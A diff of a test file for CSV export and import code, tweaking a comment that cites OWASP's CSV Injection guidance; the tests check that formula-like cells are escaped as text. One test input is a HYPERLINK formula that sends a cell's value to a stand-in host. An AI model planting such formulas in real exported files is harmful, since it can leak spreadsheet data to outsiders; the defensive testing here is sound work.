@@ -3,7 +3,7 @@ import { csvLine } from '../../cli/csv-line.ts';
 import { readCsv } from '../../lambdas/edge/imports/csv.ts';
 
 describe('a cell that a spreadsheet would work out is text', () => {
-  // OWASP, "CSV Injection": = + - @, tab, carriage return, line feed; and the full-width signs.
+  // OWASP, "CSV Injection": = + - @, tab, carriage return, line feed, and the full-width signs.
   test.each([
     ['=HYPERLINK("http://x.example/?"&A1,"photo").jpg', `'=HYPERLINK(""http://x.example/?""&A1,""photo"").jpg`],
     ['+1.jpg', "'+1.jpg"],
